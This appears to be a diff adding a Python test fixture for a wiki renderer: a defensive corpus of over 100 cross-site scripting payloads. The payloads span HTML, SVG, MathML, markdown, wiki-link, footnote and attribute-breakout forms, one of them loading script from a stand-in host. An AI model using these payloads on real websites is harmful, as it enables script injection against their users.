@@ -1,0 +1,147 @@
+"""Hostile input the wiki must show as inert text: a corpus of XSS payloads, by where they aim.
+
+Every payload that could run would set ``window.__pwned`` (or open a dialog), so a browser
+test can tell whether anything ran; the markdown tests check the rendered HTML instead. The
+corpus covers raw HTML, markdown links and images, SVG and MathML, schemes written with
+entities, mixed case and control characters, wiki-link and footnote syntax, and text meant
+to break out of an attribute, a title, a textarea, a script or a comment.
+"""
+
+JS = "window.__pwned=1"
+
+RAW_HTML = [
+    f"<script>{JS}</script>",
+    f"<SCRIPT>{JS}</SCRIPT>",
+    "<script src=//evil.example/x.js></script>",
+    f"<scr<script>ipt>{JS}</scr</script>ipt>",
+    f"<img src=x onerror={JS}>",
+    f'<img src=x onerror="{JS}">',
+    f"<IMG SRC=x OnErRoR={JS}>",
+    "<img src=x onerror=&#119;indow.__pwned=1>",
+    f"<img/src=x/onerror={JS}>",
+    f"<img src=`x` onerror={JS}>",
+    f"<body onload={JS}>",
+    f"<iframe src=javascript:{JS}></iframe>",
+    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
+    f"<object data=javascript:{JS}></object>",
+    f"<embed src=javascript:{JS}>",
+    f"<style>@import 'javascript:{JS}';</style>",
+    f'<div style="background:url(javascript:{JS})">x</div>',
+    f"<form action=javascript:{JS}><button>go</button></form>",
+    f'<button formaction="javascript:{JS}">go</button>',
+    f"<input autofocus onfocus={JS}>",
+    f"<details open ontoggle={JS}>",
+    f"<video><source onerror={JS}></video>",
+    f"<audio src=x onerror={JS}>",
+    f"<marquee onstart={JS}>",
+    f"<base href=javascript:{JS}//>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
+    f'<link rel=import href="data:text/html,<script>{JS}</script>">',
+    f"<!--<script>{JS}</script>-->",
+    f"<!--><img src=x onerror={JS}>-->",
+    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
+    f"<template><script>{JS}</script></template>",
+    f'<a href="javascript:{JS}">x</a>',
+    f'<a href="  javascript:{JS}">x</a>',
+    f'<a href="jav&#x09;ascript:{JS}">x</a>',
+    f'<a href="&#x6A;avascript:{JS}">x</a>',
+    f'<div onmouseover="{JS}">hover</div>',
+    f'<p id="x" tabindex=1 onfocus="{JS}" autofocus>x</p>',
+    f"<isindex type=image src=1 onerror={JS}>",
+    f'<x onclick="{JS}">click</x>',
+]
+
+SVG_AND_MATHML = [
+    f"<svg onload={JS}>",
+    f"<svg><script>{JS}</script></svg>",
+    f"<svg><a xlink:href=javascript:{JS}><text x=10 y=10>x</text></a></svg>",
+    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
+    f"<svg><set attributeName=href to=javascript:{JS} /></svg>",
+    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
+    f"<svg><style><img src=x onerror={JS}></style></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
+    f"<math href=javascript:{JS}>x</math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
+    f"<math><mi xlink:href=javascript:{JS}>x</mi></math>",
+    f"<svg><![CDATA[><img src=x onerror={JS}>]]></svg>",
+]
+
+MARKDOWN_LINKS = [
+    f"[x](javascript:{JS})",
+    f"[x](JaVaScRiPt:{JS})",
+    f"[x](JAVASCRIPT:{JS})",
+    f"[x](&#106;avascript:{JS})",
+    f"[x](&#x6A;&#x61;vascript:{JS})",
+    f"[x](&#0000106;avascript:{JS})",
+    f"[x](javascript&colon;{JS})",
+    f"[x](java\nscript:{JS})",
+    f"[x](java\tscript:{JS})",
+    f"[x](jav&#x09;ascript:{JS})",
+    f"[x](\x00javascript:{JS})",
+    f"[x]( javascript:{JS})",
+    f"[x](<javascript:{JS}>)",
+    f"[x](javascript://%0a{JS})",
+    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    f"[x](data:text/html,<script>{JS}</script>)",
+    "[x](vbscript:msgbox(1))",
+    f"[x][ref]\n\n[ref]: javascript:{JS}",
+    f"![x](javascript:{JS})",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MT4=)",
+    f'![x](x "onerror={JS}")',
+    f"<javascript:{JS}>",
+    f"<JAVASCRIPT:{JS}>",
+    f"<data:text/html,<script>{JS}</script>>",
+    f'<https://example.com/"onmouseover="{JS}>',
+    f'[x](http://example.com "\\"><script>{JS}</script>")',
+    f"[x](http://example.com 'x' onmouseover='{JS}')",
+    f"[a [b](javascript:{JS})](javascript:{JS})",
+    f"**<img src=x onerror={JS}>**",
+    f"> - [*x*](javascript:{JS})",
+    f"| a |\n|---|\n| <script>{JS}</script> [x](javascript:{JS}) |",
+    f'```html" onmouseover="{JS}\n<script>{JS}</script>\n```',
+    f"`</code><script>{JS}</script>`",
+]
+
+WIKI_AND_FOOTNOTES = [
+    f'[[page|"><script>{JS}</script>]]',
+    f'[[page|" onmouseover="{JS}]]',
+    f'[["><img src=x onerror={JS}>]]',
+    f"[[javascript:{JS}]]",
+    f"[[JaVaScRiPt:{JS}|click]]",
+    f"[[ data:text/html,<script>{JS}</script> ]]",
+    "[[vbscript:msgbox(1)]]",
+    f'[[cite:1" onclick="{JS}]]',
+    f"[[&#106;avascript:{JS}]]",
+    f"[[Nvidia|<b onmouseover={JS}>]]",
+    f"[[<svg onload={JS}>]]",
+    f"Note[^1]\n\n[^1]: <script>{JS}</script> [x](javascript:{JS})",
+    f"Note[^<img src=x onerror={JS}>]\n\n[^<img src=x onerror={JS}>]: boom",
+    f"^[<svg onload={JS}> [[javascript:{JS}]]]",
+    f'Note[^a"onclick="{JS}]\n\n[^a"onclick="{JS}]: x',
+]
+
+BREAKING_OUT = [
+    f'"><img src=x onerror={JS}>',
+    f"'><svg onload={JS}>",
+    f'" autofocus onfocus="{JS}" x="',
+    f"' autofocus onfocus='{JS}' x='",
+    f"</title><script>{JS}</script>",
+    f"</textarea><script>{JS}</script>",
+    f"</script><script>{JS}</script>",
+    f"</style><script>{JS}</script>",
+    f"--><script>{JS}</script>",
+    f"]]><script>{JS}</script>",
+    f"</text><script>{JS}</script></svg>",
+    f"</option></select><img src=x onerror={JS}>",
+    f"`-{JS}-`",
+    f"${{{JS}}}",
+    "{{ request.user }}{% debug %}",
+    f"&lt;script&gt;{JS}&lt;/script&gt;",
+    f"&#60;script&#62;{JS}&#60;/script&#62;",
+    f"\u2028<script>{JS}</script>\u2029",
+    f"\ufeff<img src=x onerror={JS}>",
+    f"<\x00script>{JS}</script>",
+]
+
+XSS_PAYLOADS = RAW_HTML + SVG_AND_MATHML + MARKDOWN_LINKS + WIKI_AND_FOOTNOTES + BREAKING_OUT
+assert len(XSS_PAYLOADS) >= 100, len(XSS_PAYLOADS)
